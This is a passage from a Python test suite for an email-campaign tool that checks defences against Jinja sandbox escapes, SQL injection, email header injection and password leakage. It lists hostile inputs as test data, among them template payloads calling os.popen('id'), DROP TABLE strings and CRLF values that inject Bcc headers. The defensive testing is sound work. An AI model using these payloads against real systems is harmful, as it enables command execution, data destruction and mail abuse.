    assert len(checker.checked) > 80, len(checker.checked)


def _taint(source: str, **others: str) -> list[str]:
    """Violations in a synthetic module `m` (plus optional sibling modules, by name)."""
    files = {"m": source, **others}
    return SqlTaint({name: (ROOT / f"{name}.py", text) for name, text in files.items()}).violations()


_HEADER = "from sqlalchemy import text, select, String\nimport os\n"

# Each must be flagged: a caller's value pasted into SQL text.
TAINTED = {
    "f-string of a parameter": "def f(conn, name):\n    conn.execute(text(f\"SELECT 1 FROM c WHERE name = '{name}'\"))\n",
    "format of a parameter": "_T = 'SELECT 1 FROM c WHERE {w}'\ndef f(conn, name):\n    conn.execute(text(_T.format(w=name)))\n",
    "percent of a parameter": "def f(conn, name):\n    conn.exec_driver_sql('SELECT %s' % name)\n",
    "concatenation": "def f(cursor, name):\n    cursor.execute('SELECT ' + name)\n",
    "via a local": "def f(conn, name):\n    sql = 'SELECT ' + name\n    stmt = text(sql)\n    conn.execute(stmt)\n",
    "environment": "def f(conn):\n    conn.execute(text(f\"PRAGMA x = {os.environ.get('X')}\"))\n",
    # A public function's parameter may come from anywhere: SQL text built from it inside is flagged.
    "public helper": "def where(col):\n    return text(f'WHERE {col} = 1')\n",
    "a helper called with a caller value": (
        "def where(col):\n    return f'WHERE {col} = 1'\ndef f(conn, user):\n    conn.execute(text(where(user)))\n"
    ),
    "method returning object state": (
        "class S:\n    def __init__(self, col):\n        self.col = col\n"
        "    def filter(self):\n        return f'AND {self.col} = 1'\n"
        "def f(conn, col: str):\n    conn.execute(text(S(col).filter()))\n"
    ),
    "method called with a caller value": (
        "class S:\n    def filter(self, col):\n        return f'AND {col} = 1'\n"
        "def f(conn, s: S, col):\n    conn.execute(text(s.filter(col)))\n"
    ),
    "private helper, one tainted caller": (
        "def _where(col):\n    return f'WHERE {col} = 1'\n"
        "def f(conn, user):\n    conn.execute(text(_where('a')))\n    conn.execute(text(_where(user)))\n"
    ),
    "attribute of an object": "def f(conn, row):\n    conn.execute(text(f'SELECT {row.name}'))\n",
    "mapping lookup with a tainted default": "_M = {'a': 'x'}\ndef f(conn, k):\n    conn.execute(text(_M.get(k, k)))\n",
    "method on a tainted value": "def f(conn, name):\n    conn.execute(text(name.upper()))\n",
    "str() of a value": "def f(conn, name):\n    conn.execute(text('SELECT ' + str(name)))\n",
    "comprehension over a parameter": "def f(conn, names):\n    conn.execute(text(', '.join(n for n in names)))\n",
    "loop variable over a parameter": "def f(conn, names):\n    for n in names:\n        conn.execute(text(n))\n",
    "literal_column": "from sqlalchemy import literal_column\ndef f(name):\n    return select(literal_column(name))\n",
    "module attribute imported from a project module": "import n\ndef f(conn):\n    conn.execute(text(n.USER))\n",
}
N_MODULE = "import os\nUSER = os.environ['USER']\n"

# Each must pass: the patterns reports.py, claim.py and dashboard_data.py rely on.
CLEAN = {
    "constant template, constant fragments": (
        "_T = 'SELECT 1 FROM c {where} LIMIT :limit'\n_W = 'WHERE name = :name'\n"
        "def f(conn, name, limit):\n    conn.execute(text(_T.format(where=_W if name else '')), {'name': name, 'limit': limit})\n"
    ),
    "fragments from a private helper with constant callers": (
        "def _bucket(column):\n    epoch = 'unixepoch({c})' if column else 'x'\n"
        "    return f\"({epoch.format(c=f'substr({column}, 1, 19)')} / :b) * :b\"\n"
        "def _fragments(engine, campaign):\n    return {'bucket': _bucket('sl.created_at'), 'cf': 'AND c = :c' if campaign else ''}\n"
        "_T = 'SELECT {bucket} FROM s WHERE 1 {cf}'\n"
        "def f(conn, engine, campaign):\n    fragments = _fragments(engine, campaign)\n"
        "    conn.execute(text(_T.format(**fragments)), {'c': campaign, 'b': 600})\n"
    ),
    "dialect choice by subscript": (
        "_D = {'sqlite': 'substr(x)', 'postgresql': 'split_part(x)'}\n_L = 'SELECT {d}'\n"
        "_BY = {n: text(_L.format(d=d)) for n, d in _D.items()}\n"
        "def f(conn):\n    conn.execute(_BY[conn.dialect.name])\n"
    ),
    "core statements bind values": "def f(conn, name):\n    conn.execute(select(String).where(name == name).limit(int(name)))\n",
    "a number": "def f(conn, n):\n    conn.execute(text(f'SELECT 1 LIMIT {int(n)}'))\n",
    "constant imported from a project module": "from n2 import STATUSES\n_S = ', '.join(f\"'{s}'\" for s in STATUSES)\ndef f(conn):\n    conn.execute(text(f'SELECT 1 WHERE s IN ({_S})'))\n",
    "method of a known class with constant arguments (reports.Span)": (
        "class Span:\n    def __init__(self, since):\n        self.since = since\n"
        "    def filter(self, column):\n        return _time_filter(column, self.since)\n"
        "def _time_filter(column, since):\n    return f'AND {column} >= :since' if since else ''\n"
        "def _fragments(span: Span):\n    return {'tf': span.filter('sl.created_at')}\n"
        "def f(conn, since):\n    span = Span(since)\n    conn.execute(text('SELECT 1 {tf}'.format(**_fragments(span))))\n"
    ),
    "lookup in a constant mapping": "_M = {'FULL': 'FULL'}\ndef f(cursor):\n    cursor.execute(f\"PRAGMA s = {_M.get(os.environ.get('S', ''), 'FULL')}\")\n",
}
N2_MODULE = "STATUSES = ('sent', 'delivered')\n"


@pytest.mark.parametrize("case", list(TAINTED))
def test_the_sql_check_rejects_a_caller_value(case: str) -> None:
    problems = _taint(_HEADER + TAINTED[case], n=N_MODULE)
    # (a private helper with one tainted caller is reported at each of its calls)
    assert problems, f"{case}: not flagged"
    assert all(p.startswith("m.py:") and "non-constant" in p for p in problems), problems


@pytest.mark.parametrize("case", list(CLEAN))
def test_the_sql_check_accepts_constant_fragments(case: str) -> None:
    assert _taint(_HEADER + CLEAN[case], n2=N2_MODULE) == []


# --------------------------------------------------------------------------------------------------
# 1. Templates: sandbox escapes refused at `campaign create`, lead data never evaluated
#    (in depth: tests/test_templates.py; the CLI line: tests/integration/test_cli_input.py)
# --------------------------------------------------------------------------------------------------

SANDBOX_ESCAPES = [
    "{{ ''.__class__ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ ().__class__.__base__.__subclasses__() }}",
    "{{ x.__init__.__globals__ }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{{ namespace.__init__.__globals__ }}",
    "{{ lipsum.__globals__['os'].popen('id').read() }}",
    "{{ lipsum['__globals__'] }}",
    "{{ self._TemplateReference__context }}",
    "{{ self.__dict__ }}",
    "{{ request.application.__globals__.__builtins__ }}",
    "{{ config.__class__.__init__.__globals__['os'] }}",
    "{{ config.items() }}{{ config.__class__ }}",
    "{{ ''|attr('__class__') }}",
    "{{ ''|attr('__cl' ~ 'ass__') }}",
    "{% set k = '__cla' ~ 'ss__' %}{{ ''[k] }}",
    "{% set k = '_' ~ '_class_' ~ '_' %}{{ ''[k] }}",
    "{{ x|attr(first_name) }}",
    "{{ '{0.__class__}'.format(x) }}",
    "{{ '{0.__class__.__mro__}'.format(first_name) }}",
    "{% set f = '{0.real.' ~ '_' ~ '_class_' ~ '_}' %}{{ f.format(1) }}",
    "{{ '{x}'.format_map(first_name) }}",
    "{{ [x]|map(attribute='__class__')|list }}",
    "{{ [x]|selectattr('__class__')|list }}",
    "{{ [x]|groupby('__class__') }}",
    "{{ [x]|sort(attribute=first_name) }}",
    "{% include '/etc/passwd' %}",
    "{% import 'os' as os %}",
    "{% extends 'base' %}",
    "line one\n{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
]


@pytest.mark.slow
def test_sandbox_escapes_are_refused_by_campaign_create(
    sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    prepare_database(sqlite_url)
    env = _env(sqlite_url, tmp_path)
    paths = []
    for i, payload in enumerate(SANDBOX_ESCAPES):
        # Half in the subject, half in the body: both are templates.
        part = {"subject": payload} if i % 2 else {"body": payload}
        paths.append(_campaign_toml(tmp_path / f"escape{i}.toml", f"escape-{i}", **part))
    # Every payload through the CLI's own entry point in this process (a process each would cost
    # seconds apiece on a busy CI box), and a few through real `sendguard` processes.
    for payload, path in zip(SANDBOX_ESCAPES, paths, strict=True):
        result = _in_process(["campaign", "create", str(path)], env, capsys, monkeypatch)
        line = _one_line_exit_2(result, payload)
        assert "not allowed" in line and "template line" in line, (payload, line)
        assert result.stdout == "", payload
    sample = [0, 16, 19, 27]  # attribute chain, computed subscript, format string, include
    results = _run_all([(["campaign", "create", str(paths[i])], env) for i in sample])
    for i, result in zip(sample, results, strict=True):
        assert "not allowed" in _one_line_exit_2(result, SANDBOX_ESCAPES[i])
    listed = json.loads(_ok(run_cli(["campaign", "list", "--json"], env)).stdout)
    assert listed == [], "no escape attempt became a campaign"


@pytest.mark.slow
def test_lead_data_and_db_edited_templates_are_never_executed_at_send_time(
    sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Lead fields are data, not templates: `{{ 7*7 }}` arrives as written. And a template that never
    went through `campaign create` (edited in the database) is refused at render time: that lead's
    enrollment fails `template_error`, nothing is transmitted for it."""
    prepare_database(sqlite_url)
    env = _env(sqlite_url, tmp_path)
    fields = {
        "a@example.com": "{{ 7*7 }}",
        "b@example.com": "{{ ''.__class__.__mro__ }}",
        "c@example.com": "{% for i in range(3) %}x{% endfor %}",
    }
    leads = tmp_path / "leads.csv"
    leads.write_bytes(_csv_bytes([["email", "first_name"], *[[e, f] for e, f in fields.items()]]))
    toml = _campaign_toml(tmp_path / "c.toml", "literal", body="N={{ first_name }}")
    for args in (["campaign", "create", str(toml)], ["leads", "import", "literal", str(leads)]):
        _ok(_in_process(args, env, capsys, monkeypatch))
    _ok(_in_process(["campaign", "start", "literal"], env, capsys, monkeypatch))
    # The sends themselves by real `sendguard run` processes.
    outbox = tmp_path / "outbox"
    _ok(run_cli(["run", "--once", "--dry-run", str(outbox)], env))
    sent = {}
    for path in outbox.glob("*.eml"):
        msg = email.parser.BytesParser(policy=email.policy.default).parsebytes(path.read_bytes())
        sent[str(msg["To"])] = (str(msg["Subject"]), msg.get_content().replace("\r\n", "\n"))
    assert sent == {e: (f"Hello {f}", f"N={f}\n") for e, f in fields.items()}
    assert not any("49" in subject + body or "object" in body for subject, body in sent.values())

    # Now an escape written straight into the database, bypassing `campaign create`.
    escape = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    (tmp_path / "more.csv").write_bytes(_csv_bytes([["email", "first_name"], ["d@example.com", "Dee"]]))
    _ok(_in_process(["leads", "import", "literal", str(tmp_path / "more.csv")], env, capsys, monkeypatch))
    _sql(sqlite_url, "UPDATE variant SET body = :b", {"b": escape})
    outbox2 = tmp_path / "outbox2"
    _ok(run_cli(["run", "--once", "--dry-run", str(outbox2)], env))
    assert not list(outbox2.glob("*.eml")), "nothing may be transmitted with an unsafe template"
    rows = json.loads(
        _ok(_in_process(["leads", "list", "literal", "--json"], env, capsys, monkeypatch)).stdout
    )
    assert {r["email"]: (r["status"], r["reason"]) for r in rows}["d@example.com"] == (
        "failed",
        "template_error",
    )
    assert "uid=" not in _dump_database(sqlite_url), "the command never ran"
    [(error,)] = _sql(sqlite_url, "SELECT last_error FROM campaign_lead WHERE reason = 'template_error'")
    assert "not allowed" in error, error


# --------------------------------------------------------------------------------------------------
# 2. Headers: no line break from any input splits a header on the wire
#    (in depth: tests/test_message.py, tests/test_leads_csv.py, tests/test_campaign_file.py)
# --------------------------------------------------------------------------------------------------

BREAKS = {
    "crlf": "\r\n",
    "lf": "\n",
    "cr": "\r",
    "u2028": "\u2028",
    "u2029": "\u2029",
    "nel": "\x85",
    "vt": "\x0b",
    "ff": "\x0c",
    "crlf-crlf": "\r\n\r\n",
}
# Headers sender/message.py writes; anything else in a received message was injected.
EXPECTED_HEADERS = {
    "from", "to", "subject", "date", "message-id", "list-unsubscribe", "x-sendguard-campaign",
    "content-type", "content-transfer-encoding", "mime-version",
}  # fmt: skip


def _header_lines(raw: bytes) -> list[bytes]:
    head, sep, _ = raw.partition(b"\r\n\r\n")
    assert sep, "a message has a header block"
    assert b"\n" not in head.replace(b"\r\n", b"") and b"\r" not in head.replace(b"\r\n", b""), "bare CR/LF"
    return head.split(b"\r\n")


def _header_names(raw: bytes) -> list[str]:
    # A folded continuation line starts with white space; every other line starts a header.
    return [
        line.split(b":", 1)[0].decode().lower()
        for line in _header_lines(raw)
        if line[:1] not in (b" ", b"\t")
    ]


def _physical_breaks(value: str) -> int:
    """Line ends the CSV reader counts inside a quoted value: CRLF, lone CR and lone LF, one each."""
    return value.count("\r\n") + value.replace("\r\n", "").count("\r") + value.replace("\r\n", "").count("\n")


@pytest.mark.slow
def test_line_breaks_in_lead_fields_never_inject_a_header(
    sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Every kind of line break in a lead's name (rendered into the Subject) and in its address (the To):
    the lead is refused at import (CR/LF, an invalid address), or its message reaches a real SMTP server
    with exactly the headers sendguard writes and the break flattened to a space."""
    prepare_database(sqlite_url)
    rows = [["email", "first_name", "company"]]
    expected_sent: dict[str, str] = {}
    expected_rejected: dict[int, str] = {}  # physical line -> what the reason must say
    line = 2  # the header is line 1; a quoted CR/LF continues a record on the next physical lines
    for i, brk in enumerate(BREAKS.values()):
        name_lead = f"name-{i}@example.com"
        rows.append([name_lead, f"Eve{brk}Bcc: victim@example.com", f"Acme{brk}X-Injected: yes"])
        if "\r" in brk or "\n" in brk:
            expected_rejected[line] = "CR or LF"  # CLI.md: a CR or LF in any field rejects the row
        else:
            expected_sent[name_lead] = "Hello Eve Bcc: victim@example.com at Acme X-Injected: yes"
        line += 1 + _physical_breaks("".join(rows[-1]))
        rows.append([f"addr-{i}@example.com{brk}Bcc: victim@example.com", "Ann", "Acme"])
        expected_rejected[line] = "CR or LF" if ("\r" in brk or "\n" in brk) else "invalid email"
        line += 1 + _physical_breaks("".join(rows[-1]))
    leads = tmp_path / "leads.csv"
    leads.write_bytes(_csv_bytes(rows))
    toml = _campaign_toml(tmp_path / "c.toml", "headers", subject="Hello {{ first_name }} at {{ company }}")
    with Recorder() as server:
        env = _env(sqlite_url, tmp_path, SENDGUARD_SMTP_URL=server.url)
        _ok(_in_process(["campaign", "create", str(toml)], env, capsys, monkeypatch))
        imported = json.loads(
            _ok(
                _in_process(["leads", "import", "headers", str(leads), "--json"], env, capsys, monkeypatch)
            ).stdout
        )
        _ok(_in_process(["campaign", "start", "headers"], env, capsys, monkeypatch))
        _ok(run_cli(["run", "--until-idle", "--interval", "0.2"], env, timeout=180))
        messages = list(server.messages)

    assert imported["enrolled"] == len(expected_sent), imported
    rejected = {r["line"]: r["reason"] for r in imported["rejected"]}
    assert sorted(rejected) == sorted(expected_rejected), rejected
    for line_no, needle in expected_rejected.items():
        assert needle in rejected[line_no], (line_no, rejected[line_no])
    assert len(messages) == len(expected_sent)
    subjects = {}
    for recipients, raw in messages:
        assert recipients[0] in expected_sent and len(recipients) == 1, recipients
        names = _header_names(raw)
        assert set(names) == EXPECTED_HEADERS and len(names) == len(EXPECTED_HEADERS), names
        parsed = email.parser.BytesParser(policy=email.policy.default).parsebytes(raw)
        assert parsed["Bcc"] is None and parsed["X-Injected"] is None
        assert not parsed.defects, parsed.defects
        subjects[recipients[0]] = str(parsed["Subject"])
        assert str(parsed["To"]) == recipients[0]
    assert subjects == expected_sent


@pytest.mark.slow
def test_line_breaks_in_the_campaign_file_are_refused_or_flattened(
    sqlite_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """The campaign file's own header values: from, reply_to, unsubscribe and name (X-Sendguard-Campaign)
    with a line break are refused at `campaign create` (exit 2, one line); a subject template that
    itself produces a line break is flattened on the wire."""
    prepare_database(sqlite_url)
    env = _env(sqlite_url, tmp_path)
    bad: dict[str, Path] = {}
    for label, brk in BREAKS.items():
        bad[f"from {label}"] = _campaign_toml(
            tmp_path / f"from-{label}.toml",
            f"f-{label}",
            from_addr=f"ana@example.com{brk}Bcc: victim@example.com",
        )
        bad[f"from name {label}"] = _campaign_toml(
            tmp_path / f"fromname-{label}.toml",
            f"n-{label}",
            from_addr=f"Ana{brk}Bcc: v@example.com <ana@example.com>",
        )
        bad[f"reply_to {label}"] = _campaign_toml(
            tmp_path / f"reply-{label}.toml",
            f"r-{label}",
            extra=f"reply_to = {_toml_str('a@example.com' + brk + 'Bcc: v@example.com')}",
        )
        bad[f"unsubscribe {label}"] = _campaign_toml(
            tmp_path / f"unsub-{label}.toml",
            f"u-{label}",
            extra=f"unsubscribe = {_toml_str('mailto:a@example.com' + brk + 'Bcc: v@example.com')}",
        )
        bad[f"name {label}"] = _campaign_toml(tmp_path / f"name-{label}.toml", f"x{brk}Bcc: v@example.com")
    bad["unsubscribe percent-encoded"] = _campaign_toml(
        tmp_path / "unsub-pct.toml", "u-pct", extra='unsubscribe = "mailto:a%0D%0ABcc:%20v@example.com"'
    )
    for what, path in bad.items():
        line = _one_line_exit_2(
            _in_process(["campaign", "create", str(path)], env, capsys, monkeypatch), what
        )
        assert what.split()[0] in line, (what, line)  # names the offending key
    assert _sql(sqlite_url, "SELECT count(*) FROM campaign") == [(0,)]

    # A subject template whose *output* holds line breaks (written in the file, or produced by an
    # expression) cannot be refused by inspection; it is flattened when the message is built.
    subject = "Hi\r\nBcc: victim@example.com{{ '\\n' }}X-Injected: {{ first_name }}\u2028Cc: x@example.com"
    toml = _campaign_toml(tmp_path / "subject.toml", "subject-breaks", subject=subject)
    (tmp_path / "l.csv").write_bytes(_csv_bytes([["email", "first_name"], ["lead@example.com", "Tom"]]))
    _ok(_in_process(["campaign", "create", str(toml)], env, capsys, monkeypatch))
    _ok(_in_process(["leads", "import", "subject-breaks", str(tmp_path / "l.csv")], env, capsys, monkeypatch))
    _ok(_in_process(["campaign", "start", "subject-breaks"], env, capsys, monkeypatch))
    with Recorder() as server:
        _ok(run_cli(["run", "--once"], {**env, "SENDGUARD_SMTP_URL": server.url}))
        [(recipients, raw)] = server.messages
    names = _header_names(raw)
    assert set(names) == EXPECTED_HEADERS and len(names) == len(EXPECTED_HEADERS), names
    parsed = email.parser.BytesParser(policy=email.policy.default).parsebytes(raw)
    assert str(parsed["Subject"]) == "Hi Bcc: victim@example.com X-Injected: Tom Cc: x@example.com"
    assert recipients == ["lead@example.com"]


# --------------------------------------------------------------------------------------------------
# 3. Secrets: the SMTP and database passwords never leave the process
#    (also: tests/integration/test_cli_input.py, tests/test_transport.py, tests/test_dashboard.py)
# --------------------------------------------------------------------------------------------------

SMTP_SECRET = "Smtp-s3cret-9f2c"  # nothing in it that percent-encoding would change
DB_SECRET = "Db-s3cret-77ab"


def _secret_forms(secret: str, user: str = "user") -> list[str]:
    """The secret as text and as it travels in SMTP AUTH (PLAIN, LOGIN): none may be written anywhere."""
    return [
        secret,
        base64.b64encode(f"\0{user}\0{secret}".encode()).decode(),
        base64.b64encode(secret.encode()).decode(),
    ]


def _assert_no_secret(texts: dict[str, str], *secrets: str) -> None:
    forms = [form for secret in secrets for form in _secret_forms(secret)]
    for label, value in texts.items():
        for form in forms:
            assert form not in value, f"a secret ({form[:4]}...) appears in {label}:\n{value[-3000:]}"


def _make_due(url: str) -> None:
    """Skip the retry backoff (the state a while later)."""
    _sql(url, "UPDATE campaign_lead SET next_attempt_at = created_at WHERE status = 'queued'")


def _resume_if_paused(
    url: str, env: dict[str, str], capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    # An auth circuit breaker (sender/breakers.py) may pause the campaign after a refused login.
    if _sql(url, "SELECT status FROM campaign WHERE name = 'secretive'") == [("paused",)]:
        _ok(_in_process(["campaign", "resume", "secretive"], env, capsys, monkeypatch))


@pytest.mark.slow
def test_smtp_and_database_passwords_never_leave_the_process(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Real `sendguard` processes at DEBUG log level with the SMTP password in SENDGUARD_SMTP_URL (and,
    on PostgreSQL, a password in the database URL: the test cluster trusts it, so every command works)
    through every failure path: a refused login by a server that quotes the password back, an
    unreachable server, a forced traceback (SENDGUARD_DEBUG=1 and an `error` failpoint), a malformed URL,
    a sender started the dashboard's way writing its log file. Then stdout, stderr, the log file, every
    command's output and every column of every table are searched for the password, in clear and as
    SMTP AUTH sends it."""
    url = db_url
    if make_url(db_url).get_backend_name() == "postgresql":
        url = make_url(db_url).set(password=DB_SECRET).render_as_string(hide_password=False)
    texts: dict[str, str] = {}

    def keep(label: str, result: CliResult) -> CliResult:
        texts[f"{label} stdout"], texts[f"{label} stderr"] = result.stdout, result.stderr
        return result

    with Recorder(refuse_auth=True) as server:
        smtp_url = f"smtp://user:{SMTP_SECRET}@127.0.0.1:{server.port}"
        env = _env(url, tmp_path, SENDGUARD_SMTP_URL=smtp_url, SENDGUARD_LOG_LEVEL="DEBUG")
        upgraded = keep("db upgrade", _ok(run_cli(["db", "upgrade"], env)))
        if url != db_url:
            assert "***" in upgraded.stdout, "the database URL is shown, redacted"
        toml = _campaign_toml(tmp_path / "c.toml", "secretive")
        (tmp_path / "l.csv").write_bytes(_csv_bytes([["email", "first_name"], ["to@example.com", "Tom"]]))
        for args in (["campaign", "create", str(toml)], ["leads", "import", "secretive", str(tmp_path / "l.csv")],
                     ["campaign", "start", "secretive"]):  # fmt: skip
            keep(" ".join(args[:2]), _ok(_in_process(args, env, capsys, monkeypatch)))

        # 1. A refused login, by a server quoting the password back in its 535 reply.
        keep("run, auth refused", _ok(run_cli(["run", "--once"], env)))
        assert server.auth_attempts, "the login was attempted: the password was in play"
        assert all(pw == SMTP_SECRET.encode() for _, _, pw in server.auth_attempts)
        assert server.messages == []
        _resume_if_paused(url, env, capsys, monkeypatch)
        _make_due(url)

        # 2. An unreachable server, the URL given as a flag.
        keep(
            "run, unreachable",
            _ok(run_cli(["run", "--once", "--smtp-url", f"smtp://user:{SMTP_SECRET}@127.0.0.1:1"], env)),
        )
        _make_due(url)

        # 3. A forced traceback: an unexpected error in the middle of a send, with SENDGUARD_DEBUG=1.
        crashed = keep(
            "run, traceback",
            run_cli(
                ["run", "--once"],
                {**env, "SENDGUARD_DEBUG": "1", "SENDGUARD_FAILPOINTS": "after_claim=error"},
            ),
        )
        assert (
            crashed.returncode == 1 and "Traceback" in crashed.stderr and "FailpointError" in crashed.stderr
        ), crashed.stderr

        # 4. Malformed URLs holding the password: refused with the URL redacted.
        bad_smtp = keep(
            "run, bad smtp url",
            run_cli(["run", "--once", "--smtp-url", f"smtp://user:{SMTP_SECRET}@127.0.0.1:notaport"], env),
        )
        assert "user:***@" in _one_line_exit_2(bad_smtp, "bad SMTP URL")

        # 5. A sender started the dashboard's way, logging to its file beside the lock file.
        from dashboard_data import local_sender, start_local_sender, stop_local_sender
        from sender.config import Settings

        _resume_if_paused(url, env, capsys, monkeypatch)
        _make_due(url)
        attempts = len(server.auth_attempts)
        settings = Settings(
            database_url=url, smtp_url=smtp_url, lock_file=str(tmp_path / "dash" / "sender.lock")
        )
        started = start_local_sender(settings, env=env, settle=60)
        assert started.outcome == "started", started
        try:
            assert poll_until(lambda: len(server.auth_attempts) > attempts, 60), (
                "the started sender tried to log in"
            )
        finally:
            stop_local_sender(settings.resolved_lock_file())
            assert poll_until(lambda: not local_sender(settings.resolved_lock_file()).alive, 60)
        log_file = Path(local_sender(settings.resolved_lock_file()).log_file)
        texts["dashboard sender log"] = log_file.read_text(errors="replace")
        assert "auth" in texts["dashboard sender log"].lower()

    # Every command that shows state, real processes for the JSON status, the rest in this process.
    texts["status --json"] = _ok(run_cli(["status", "--json"], env)).stdout
    for args in (["status"], ["campaign", "list", "--json"], ["leads", "list", "secretive", "--json"],
                 ["review", "list", "--json"], ["report", "duplicates", "--json"]):  # fmt: skip
        keep(" ".join(args), _ok(_in_process(args, env, capsys, monkeypatch)))
    dump = _dump_database(url)
    texts["database"] = dump
    assert "535" in dump and "bad password ***" in dump, "the quoted password was stored scrubbed"
    assert "127.0.0.1:1" in dump, "the unreachable server's error was stored"
    _assert_no_secret(texts, SMTP_SECRET, DB_SECRET)
    assert len(texts) > 20


@pytest.mark.slow
def test_database_password_never_in_errors_or_tracebacks(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    """A database URL with a password that cannot be used (nothing listens on port 1) or parsed: the one
    line, and the traceback SENDGUARD_DEBUG=1 asks for, never show the password."""
    unreachable = f"postgresql+psycopg://sg:{DB_SECRET}@127.0.0.1:1/nowhere?connect_timeout=5"
    malformed = f"postgresql+psycopg://sg:{DB_SECRET}@127.0.0.1:notaport/db"
    env = _env(unreachable, tmp_path)
    texts: dict[str, str] = {}
    results = _run_all(
        [
            (["status", "--json"], env),
            (["status"], {**env, "SENDGUARD_DEBUG": "1"}),
            (["run", "--once", "--dry-run", str(tmp_path / "out")], {**env, "SENDGUARD_DEBUG": "1"}),
            (["--database-url", malformed, "status"], env),
        ]
    )
    for i, result in enumerate(results):
        texts[f"call {i} stdout"], texts[f"call {i} stderr"] = result.stdout, result.stderr
    assert results[0].returncode == 1 and len(results[0].stderr.strip().splitlines()) == 1, results[0].stderr
    assert "Traceback" in results[1].stderr and "OperationalError" in results[1].stderr, results[1].stderr
    assert "Traceback" in results[2].stderr, results[2].stderr
    _one_line_exit_2(results[3], "malformed database URL")
    # In this process too: the exception text the CLI builds (sender.cli._safe).
    flag = _in_process(["--database-url", unreachable, "status"], env, capsys, monkeypatch)
    assert flag.returncode == 1
    texts["in-process"] = flag.stderr
    _assert_no_secret(texts, DB_SECRET)


# --------------------------------------------------------------------------------------------------
# 4a. SQL: hostile names and fields are data on both backends
#     (also: tests/integration/test_cli_input.py, hostile campaign and leads through a send)
# --------------------------------------------------------------------------------------------------

HOSTILE_NAMES = [
    "x'; DROP TABLE send_log;--",
    "Robert'); DROP TABLE campaign;--",
    '"quoted" name',
    "O'Brien \\ back\\slash",
    "Zażółć gęślą 🚀 名前",
    "%s %(name)s %% %d",
    ":param :name :campaign",
    "{x} {{ y }} {0}",
    "1 OR 1=1 --",
    "$1 ? ?;",
]
HOSTILE_FIELD = "x'); DELETE FROM lead WHERE ('1'='1"


@pytest.mark.slow
def test_hostile_names_and_fields_are_stored_verbatim_and_tables_survive(
    db_url: str, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    import reports
    from dashboard_data import campaign_events, load_duplicates_data

    env = _env(db_url, tmp_path)
    tables = _tables(db_url)
    assert {"campaign", "send_log", "lead", "campaign_lead", "imported_send_log"} <= tables

    def cli(*args: str) -> CliResult:
        return _ok(_in_process(list(args), env, capsys, monkeypatch))

    leads = tmp_path / "leads.csv"
    fields = {"first_name": HOSTILE_FIELD, "company": "'; DROP TABLE lead;--", "note": "%s :note {0} \\"}
    leads.write_bytes(_csv_bytes([["email", *fields], ["o'brien@example.com", *fields.values()]]))
    # The most hostile name through a real `sendguard` process, the rest through the same entry point
    # in this process.
    first = _campaign_toml(tmp_path / "c0.toml", HOSTILE_NAMES[0])
    _ok(run_cli(["campaign", "create", str(first)], env))
    for i, name in enumerate(HOSTILE_NAMES):
        if i:
            cli("campaign", "create", str(_campaign_toml(tmp_path / f"c{i}.toml", name)))
        imported = json.loads(cli("leads", "import", name, str(leads), "--json").stdout)
        assert imported["enrolled"] + imported["already_enrolled"] == 1 and imported["rejected"] == []
        cli("campaign", "start", name)
        cli("campaign", "pause", name, "--reason", name, "--actor", name)
    # An imported send log whose campaign, lead, host and label are all hostile; one duplicate each.
    sendlog = tmp_path / "sendlog.csv"
    rows = [["campaignId", "leadId", "variantLetter", "createdAt", "host"]]
    for i, name in enumerate(HOSTILE_NAMES):
        rows += [[name, HOSTILE_FIELD, "A", f"2024-03-12 11:{i:02d}:00", name]] * 2
    sendlog.write_bytes(_csv_bytes(rows))
    label = HOSTILE_NAMES[1]
    cli("sendlog", "import", str(sendlog), "--label", label)

    # Every table still there, every value as written.
    assert _tables(db_url) == tables
    assert sorted(n for (n,) in _sql(db_url, "SELECT name FROM campaign")) == sorted(HOSTILE_NAMES)
    assert sorted(r for (r,) in _sql(db_url, "SELECT pause_reason FROM campaign")) == sorted(HOSTILE_NAMES)
    stored = _sql(db_url, "SELECT email, first_name, fields FROM lead")
    assert [(e, f, json.loads(j)) for e, f, j in stored] == [("o'brien@example.com", HOSTILE_FIELD, fields)]
    assert _sql(db_url, "SELECT count(*) FROM campaign_lead") == [(len(HOSTILE_NAMES),)]
    actors = {a for (a,) in _sql(db_url, "SELECT actor FROM campaign_event WHERE kind = 'paused'")}
    assert actors == set(HOSTILE_NAMES)
    imported_rows = _sql(db_url, "SELECT label, campaign, lead, host FROM imported_send_log")
    assert sorted(imported_rows) == sorted(
        (label, n, HOSTILE_FIELD, n) for n in HOSTILE_NAMES for _ in (1, 2)
    )

    # The CLI's readers and the report functions take each name as a value: the right rows, no more.
    for name in HOSTILE_NAMES:
        listed = json.loads(cli("leads", "list", name, "--json").stdout)
        assert [r["email"] for r in listed] == ["o'brien@example.com"]
        live = json.loads(cli("report", "duplicates", "--campaign", name, "--json").stdout)
        assert live["total_sends"] == 0
        old = json.loads(
            cli("report", "duplicates", "--imported", label, "--campaign", name, "--json").stdout
        )
        assert (old["total_sends"], old["duplicate_sends"], old["affected_leads"]) == (2, 1, 1), (name, old)
        engine = make_engine(db_url, readonly=True)
        try:
            events = campaign_events(engine, name)
            assert set(events["campaign"]) == {name} and name in set(events["reason"])
            source = reports.Source.imported(label)
            for kind in ("any", "exact", "cross_variant", "address", "cross_campaign"):
                details = reports.duplicate_details(engine, source, kind, campaign=name)  # type: ignore[arg-type]
                # Key kinds stay inside the campaign; cross-campaign groups show the other campaigns.
                assert set(details["campaign"]) <= (
